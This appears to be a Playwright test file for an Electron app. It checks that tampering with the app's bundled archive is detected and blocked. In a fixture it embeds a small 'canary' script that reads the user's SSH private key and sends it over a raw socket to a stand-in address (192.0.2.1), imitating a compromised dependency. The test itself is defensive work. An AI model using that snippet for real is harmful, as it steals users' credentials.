import type { ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { expect, test } from '@playwright/test';

import { archiveWith, filesInArchive } from '../support/archive';
import { copyOfProgram, type ProgramCopy, replaceFile } from '../support/changed-program';
import { handOver, makeHome, removeHome } from '../support/electron-app';
import { networkCalls } from '../support/network-calls';
import { steadyStrace } from '../support/tracer/steady-strace';

/** What a dependency would do that was bought or broken into: it looks for keys, and carries them away. */
const canary = `
;(() => {
  const vault = process.argv.find((text) => text.startsWith('--vault=')).slice(8);
  const home = require('node:path').join(vault, '../../../..');
  const key = require('node:fs').readFileSync(home + '/.ssh/id_ed25519');
  require('node:net').connect(9, '192.0.2.1').on('error', () => undefined).end(key);
})();
`;
const bundle = 'out/main/vault-process.cjs';

let home: string;
let copy: ProgramCopy;
let program: ChildProcess;
let said: string;
test.beforeEach(() => {
  home = makeHome();
  copy = copyOfProgram();
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh/id_ed25519'), 'a key of somebody');
  handOver(home);
});
test.afterEach(() => {
  copy.remove();
  removeHome(home);
});

test('a dependency that reads the home and calls out from the vault process is seen doing it', async () => {
  const sound = await watched(() => readFileSync(log(), 'utf8').includes('NodeService'));
  expect(sound).toEqual({ sawIt: true, reached: [], keys: [] });

  addCanary();
  writeDigest();
  const { reached, keys } = await watched(() => networkCalls(log()).reached.length > 0);
  expect(reached).toEqual([expect.stringMatching(/connect\(.*192\.0\.2\.1/)]);
  expect(keys).not.toEqual([]);
});

test('and does not even run where only the archive was changed, and not its digest', async () => {
  addCanary();
  const { reached, keys } = await watched(() => said.includes('damaged'));
  expect({ reached, keys }).toEqual({ reached: [], keys: [] });
});

const log = (): string => join(home, 'run', 'calls.log');
const archive = (): string => join(copy.resources, 'app.asar');

function addCanary(): void {
  const sound = filesInArchive(archive()).get(bundle)!;
  replaceFile(
    archive(),
    archiveWith(archive(), bundle, Buffer.concat([sound, Buffer.from(canary)])),
  );
}

function writeDigest(): void {
  const digest = createHash('sha256').update(readFileSync(archive())).digest('hex');
  replaceFile(`${archive()}.sha256`, Buffer.from(digest));
}

/** Runs the program until that is so and a little longer; what its system calls tell of network and keys. */
async function watched(isThere: () => boolean) {
  writeFileSync(log(), '');
  said = '';
  const calls = '%network,openat,open,execve';
  const strace = steadyStrace('-yy', '-s', '200', '-e', `trace=${calls}`, '-o', log());
  program = copy.start(home, strace);
  program.stderr?.on('data', (data: Buffer) => (said += data.toString()));
  const ended = new Promise((resolve) => program.once('close', resolve));
  await expect.poll(isThere, { timeout: 60_000 }).toBe(true);
  await new Promise((resolve) => setTimeout(resolve, 3000));
  process.kill(-program.pid!, 'SIGKILL');
  await ended;
  const keys = readFileSync(log(), 'utf8')
    .split('\n')
    .filter((line) => line.includes('/.ssh/'));
  return { ...networkCalls(log()), keys };
}
